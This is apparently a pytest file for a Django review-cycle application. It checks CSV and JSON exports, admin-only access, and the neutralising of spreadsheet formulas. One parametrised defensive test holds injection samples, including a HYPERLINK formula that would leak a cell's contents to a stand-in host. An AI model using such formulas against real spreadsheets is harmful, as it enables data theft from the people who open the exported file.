"""CSV and JSON exports of a cycle, and of every cycle of an edition for administrators: the
standards' structure (value → criterion) kept, each voice in its own columns (staff, members, each
reviewer, the agreed rating), the columns docs/exports.md describes, and text that a spreadsheet
would run as a formula made harmless."""

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from reviews.members.models import Channel
from reviews.models import CycleState, PeerRating, SelfRating
from tests.factories import CycleFactory, EvidenceFactory, build_edition
from tests.support.documents import csv_header, csv_rows, download, json_export
from tests.support.personas import browser_for
from tests.support.reviews import PeerReview, other_services, settled_review

BASE = ["service", "cycle_id", "cycle_state", "edition", "value_code", "value_name", "criterion_code", "tier",
        "rated_by", "statement"]
STAFF = ["staff_rating", "staff_level", "staff_not_applicable_reason", "staff_narrative", "staff_evidence"]
MEMBER = ["members_n", "members_yes", "members_sometimes", "members_no", "members_dont_know", "members_meeting_answers",
          "members_level"]
MEMBERS_WROTE = "Mostly, not at weekends."
SUMMARY = ["reviewers_median", "reviewers_low", "reviewers_high", "reviewers_count", "reviewers_disagree",
           "self_and_peers_differ", "members_and_peers_differ"]
AGREED = ["agreed_rating", "agreed_level", "agreed_rationale"]


def reviewer_columns(places):
    return [f"reviewer_{n}_{field}" for n in range(1, places + 1) for field in ("name", "role", "rating", "level",
                                                                                 "comment")]


def final_review(personas):
    """The home service's final review. On V1.3 (rated by both) the staff say Met with two pieces of
    evidence; of eight members who answered, four said Yes, three Sometimes and one No (one more did
    not know), and a members' meeting of six said Sometimes: the members' level is Partly met; the
    lead reviewer says Met, the lived-experience reviewer Met, the peer reviewer Partly met; the
    agreed rating is Met."""
    review = PeerReview(personas)
    staff = review.self_rate("V1.3", "Met", narrative="The rota shows monthly supervision.")
    staff.evidence.set([EvidenceFactory(cycle=review.cycle, title="Supervision rota"),
                        EvidenceFactory(cycle=review.cycle, title="Team meeting minutes")])
    review.members_answer("V1.3", *["yes"] * 4, *["sometimes"] * 3, "no")
    review.members_answer("V1.3", "dont_know", anything_else=MEMBERS_WROTE)
    review.members_answer("V1.3", "sometimes", channel=Channel.GROUP, group_size=6)
    review.self_rate("V1.1", "na")
    review.to(CycleState.VISIT)
    review.rate_everything(personas.lead_reviewer)
    review.rate_everything(personas.lived_experience_reviewer)
    review.rate_everything(personas.reviewer, V1_3="Partly met")
    review.agree_everything()
    review.agree("V1.3", "Met", rationale="Supervision is monthly; weekends are covered by the on-call lead.")
    review.finish()
    return review.to(CycleState.FINAL)


# --- one cycle --------------------------------------------------------------------------------


def test_cycle_csv_gives_each_voice_its_own_columns(personas):
    review = final_review(personas)
    client = browser_for(personas.admin)

    header = csv_header(client, review.url("cycle-export", "csv"))
    rows = csv_rows(client, review.url("cycle-export", "csv"))

    assert header == BASE + STAFF + MEMBER + reviewer_columns(3) + SUMMARY + AGREED
    assert [row["criterion_code"] for row in rows] == [f"V{v}.{c}" for v in range(1, 5) for c in range(1, 4)]
    row = next(row for row in rows if row["criterion_code"] == "V1.3")
    lead, lived, peer = personas.lead_reviewer, personas.lived_experience_reviewer, personas.reviewer
    assert row == {
        "service": "Kestrel Wing", "cycle_id": str(review.cycle.pk), "cycle_state": "final",
        "edition": f"test-standards:{review.cycle.edition.version}", "value_code": "V1", "value_name": "Value 1",
        "criterion_code": "V1.3", "tier": "1", "rated_by": "both", "statement": "Statement for V1.3.",
        "staff_rating": "Met", "staff_level": "2", "staff_not_applicable_reason": "",
        "staff_narrative": "The rota shows monthly supervision.",
        "staff_evidence": "Supervision rota; Team meeting minutes",
        "members_n": "8", "members_yes": "4", "members_sometimes": "3", "members_no": "1", "members_dont_know": "1",
        "members_meeting_answers": "sometimes (6 members)", "members_level": "1",
        "reviewer_1_name": str(lead), "reviewer_1_role": "lead_reviewer", "reviewer_1_rating": "Met",
        "reviewer_1_level": "2", "reviewer_1_comment": f"{lead} on V1.3.",
        "reviewer_2_name": str(lived), "reviewer_2_role": "lived_experience_reviewer", "reviewer_2_rating": "Met",
        "reviewer_2_level": "2", "reviewer_2_comment": f"{lived} on V1.3.",
        "reviewer_3_name": str(peer), "reviewer_3_role": "peer_reviewer", "reviewer_3_rating": "Partly met",
        "reviewer_3_level": "1", "reviewer_3_comment": f"{peer} on V1.3.",
        "reviewers_median": "2", "reviewers_low": "1", "reviewers_high": "2", "reviewers_count": "3",
        "reviewers_disagree": "False", "self_and_peers_differ": "False", "members_and_peers_differ": "True",
        "agreed_rating": "Met", "agreed_level": "2",
        "agreed_rationale": "Supervision is monthly; weekends are covered by the on-call lead.",
    }
    assert all(MEMBERS_WROTE not in str(row) for row in rows)
    not_asked = next(row for row in rows if row["criterion_code"] == "V1.1")
    assert [not_asked[column] for column in MEMBER] == [""] * 7
    not_applicable = not_asked
    assert (not_applicable["staff_rating"], not_applicable["staff_level"]) == ("Not applicable", "")
    assert not_applicable["staff_not_applicable_reason"] == "It does not apply here."


def test_cycle_json_keeps_value_then_criterion_structure(personas):
    review = final_review(personas)

    exported = json_export(browser_for(personas.admin), review.url("cycle-export", "json"))

    cycle = exported["cycle"]
    assert exported["schema"] == "relational-assurance/export/1"
    assert (cycle["id"], cycle["service"], cycle["state"]) == (review.cycle.pk, "Kestrel Wing", "final")
    assert cycle["opened"] == review.cycle.opened_at.date().isoformat()
    assert cycle["edition"] == {"framework": "test-standards", "version": review.cycle.edition.version}
    assert cycle["sections"] == ["staff", "members", "reviewers", "agreed"]
    assert [(value["code"], value["name"], [c["criterion_code"] for c in value["criteria"]])
            for value in cycle["values"]] == [
        (f"V{v}", f"Value {v}", [f"V{v}.1", f"V{v}.2", f"V{v}.3"]) for v in range(1, 5)
    ]
    criterion = cycle["values"][0]["criteria"][2]
    assert criterion["staff"] == {"rating": "Met", "level": 2, "not_applicable_reason": "",
                                  "narrative": "The rota shows monthly supervision.",
                                  "evidence": ["Supervision rota", "Team meeting minutes"]}
    assert criterion["members"] == {"n": 8, "yes": 4, "sometimes": 3, "no": 1, "dont_know": 1,
                                    "meeting_answers": [{"members": 6, "answer": "sometimes"}], "level": 1}
    assert MEMBERS_WROTE not in str(exported)
    assert [(r["name"], r["role"], r["rating"], r["level"]) for r in criterion["reviewers"]] == [
        (str(personas.lead_reviewer), "lead_reviewer", "Met", 2),
        (str(personas.lived_experience_reviewer), "lived_experience_reviewer", "Met", 2),
        (str(personas.reviewer), "peer_reviewer", "Partly met", 1),
    ]
    assert criterion["reviewers_summary"] == {"median": 2, "low": 1, "high": 2, "count": 3,
                                              "reviewers_disagree": False, "self_and_peers_differ": False,
                                              "members_and_peers_differ": True}
    assert criterion["agreed"] == {"rating": "Met", "level": 2,
                                   "rationale": "Supervision is monthly; weekends are covered by the on-call lead."}


def test_cycle_export_shows_abstentions_as_such(personas):
    review = PeerReview(personas).to(CycleState.VISIT)
    review.rate_everything(personas.reviewer, **{"V2.1": ("abstain", "I did not see the night shift.")})

    exported = json_export(browser_for(personas.admin), review.url("cycle-export", "json"))

    [peer] = [r for r in exported["cycle"]["values"][1]["criteria"][0]["reviewers"] if r["role"] == "peer_reviewer"]
    assert (peer["rating"], peer["level"], peer["abstain_reason"]) == ("Abstained", None,
                                                                       "I did not see the night shift.")


def test_cycle_export_counts_the_ratings_the_pages_count_not_drafts(personas):
    review = PeerReview(personas).to(CycleState.VISIT)
    review.rate_everything(personas.lived_experience_reviewer, label="Met")
    review.rate(personas.reviewer, {"V2.1": "Not met"})  # a draft, with a comment, not submitted
    draft_comment = f"{personas.reviewer} on V2.1."

    for client in (browser_for(personas.admin), browser_for(personas.lived_experience_reviewer)):
        exported = json_export(client, review.url("cycle-export", "json"))
        _response, csv_bytes = download(client, review.url("cycle-export", "csv"))

        criterion = exported["cycle"]["values"][1]["criteria"][0]
        [draft] = [r for r in criterion["reviewers"] if r["role"] == "peer_reviewer"]
        assert (draft["rating"], draft["comment"]) == (None, "")
        assert criterion["reviewers_summary"]["count"] == 1
        assert draft_comment not in csv_bytes.decode()


def test_cycle_export_downloads_as_named_attachment(personas):
    review = final_review(personas)
    client = browser_for(personas.admin)
    name = f"kestrel-wing-{review.cycle.edition.version}-cycle-{review.cycle.pk}"

    csv_response, _content = download(client, review.url("cycle-export", "csv"))
    json_response, _content = download(client, review.url("cycle-export", "json"))

    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert json_response["Content-Type"] == "application/json; charset=utf-8"
    assert json_response["Content-Disposition"] == f'attachment; filename="{name}.json"'


def test_cycle_export_unknown_format_is_404(personas):
    review = final_review(personas)

    response = browser_for(personas.admin).get(f"/cycles/{review.cycle.pk}/export.xlsx")

    assert response.status_code == 404


def test_cycle_csv_columns_are_those_docs_describe(personas):
    review = final_review(personas)
    documented = Path(settings.BASE_DIR, "docs", "exports.md").read_text()
    table = documented[documented.index("| Column | Meaning |"):documented.index("## JSON")]
    columns = set()
    for first_cell in re.findall(r"^\| (.+?) \|", table, flags=re.MULTILINE)[1:]:  # after | Column |
        for column in re.findall(r"`([a-z_N]+)`", first_cell):
            columns |= {column.replace("_N_", f"_{n}_") for n in (1, 2, 3)}

    header = csv_header(browser_for(personas.admin), review.url("cycle-export", "csv"))

    assert set(header) == columns


# --- formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://example.test/?leak="&A1, "Click")', "+44 20 7946 0000", "-1 because of the rota",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_cycle_csv_prefixes_formula_text_with_apostrophe(personas, text):
    review = PeerReview(personas)
    review.self_rate("V1.1", "Met", narrative=text)
    review.to(CycleState.VISIT).everyone_rates()
    PeerRating.objects.filter(criterion__code="V1.3", team_member__user=personas.reviewer).update(comment=text)
    review.agree_everything()
    review.agree("V1.3", "Met", rationale=text)
    client = browser_for(personas.admin)

    rows = {row["criterion_code"]: row for row in csv_rows(client, review.url("cycle-export", "csv"))}
    exported = json_export(client, review.url("cycle-export", "json"))

    assert rows["V1.1"]["staff_narrative"] == f"'{text}"
    assert rows["V1.3"]["agreed_rationale"] == f"'{text.strip()}"
    assert f"'{text}" in [rows["V1.3"][f"reviewer_{n}_comment"] for n in (1, 2, 3)]
    value = exported["cycle"]["values"][0]["criteria"]
    assert value[0]["staff"]["narrative"] == text  # JSON is not a spreadsheet: the text stays as written


def test_cycle_csv_leaves_ordinary_text_and_numbers_alone(personas):
    review = PeerReview(personas)
    review.self_rate("V1.1", "Met", narrative="Monthly supervision - see the rota.")
    review.to(CycleState.VISIT)

    rows = csv_rows(browser_for(personas.admin), review.url("cycle-export", "csv"))

    assert rows[0]["staff_narrative"] == "Monthly supervision - see the rota."
    assert rows[0]["staff_level"] == "2"


# --- every cycle of an edition ----------------------------------------------------------------


def edition_with_cycles(personas):
    """The home service's final review, two other services' settled reviews, one just opened, and a
    review of another edition that must not appear."""
    review = final_review(personas)
    edition = review.cycle.edition
    others = other_services(edition, ["Rowan Lodge", "Birch Court"])
    opened = CycleFactory(edition=edition, service__name="=Formula House")
    settled_review(build_edition(values=1, criteria_per_value=1), name="Elsewhere Farm")
    return edition, [review.cycle, *others, opened]


def edition_url(edition, fmt):
    return reverse("reports:edition-export", args=[edition.pk, fmt])


def test_edition_csv_includes_every_cycle_of_the_edition(personas):
    edition, cycles = edition_with_cycles(personas)

    rows = csv_rows(browser_for(personas.admin), edition_url(edition, "csv"))

    assert sorted({int(row["cycle_id"]) for row in rows}) == sorted(cycle.pk for cycle in cycles)
    assert len(rows) == len(cycles) * 12
    assert {row["service"] for row in rows} == {"Kestrel Wing", "Rowan Lodge", "Birch Court", "'=Formula House"}
    assert "Elsewhere Farm" not in {row["service"] for row in rows}
    rowan = next(row for row in rows if row["service"] == "Rowan Lodge" and row["criterion_code"] == "V1.1")
    assert (rowan["agreed_rating"], rowan["cycle_state"]) == ("Not met", "closed")


def test_edition_json_includes_every_cycle_of_the_edition(personas):
    edition, cycles = edition_with_cycles(personas)

    exported = json_export(browser_for(personas.admin), edition_url(edition, "json"))

    assert exported["edition"] == {"framework": "test-standards", "version": edition.version}
    assert sorted(cycle["id"] for cycle in exported["cycles"]) == sorted(cycle.pk for cycle in cycles)
    assert all(cycle["sections"] == ["staff", "members", "reviewers", "agreed"] for cycle in exported["cycles"])
    assert all(sum(len(value["criteria"]) for value in cycle["values"]) == 12 for cycle in exported["cycles"])


@pytest.mark.parametrize(
    "persona", ["lead", "staff", "member", "reviewer", "lived_experience_reviewer", "lead_reviewer", "commissioner",
                "outsider"],
)
def test_edition_export_is_for_admins_only(personas, persona):
    edition, _cycles = edition_with_cycles(personas)
    client = browser_for(getattr(personas, persona))

    assert download(client, edition_url(edition, "csv"))[0].status_code == 404
    assert download(client, edition_url(edition, "json"))[0].status_code == 404


def test_edition_export_of_unknown_edition_is_404(personas):
    assert browser_for(personas.admin).get(reverse("reports:edition-export", args=[999999, "csv"])).status_code == 404


def test_edition_export_streams_csv_as_attachment(personas):
    edition, _cycles = edition_with_cycles(personas)

    response, _content = download(browser_for(personas.admin), edition_url(edition, "csv"))

    assert response.streaming
    assert response["Content-Disposition"] == (
        f'attachment; filename="test-standards-{edition.version}-all-cycles.csv"'
    )
    assert SelfRating.objects.exists()
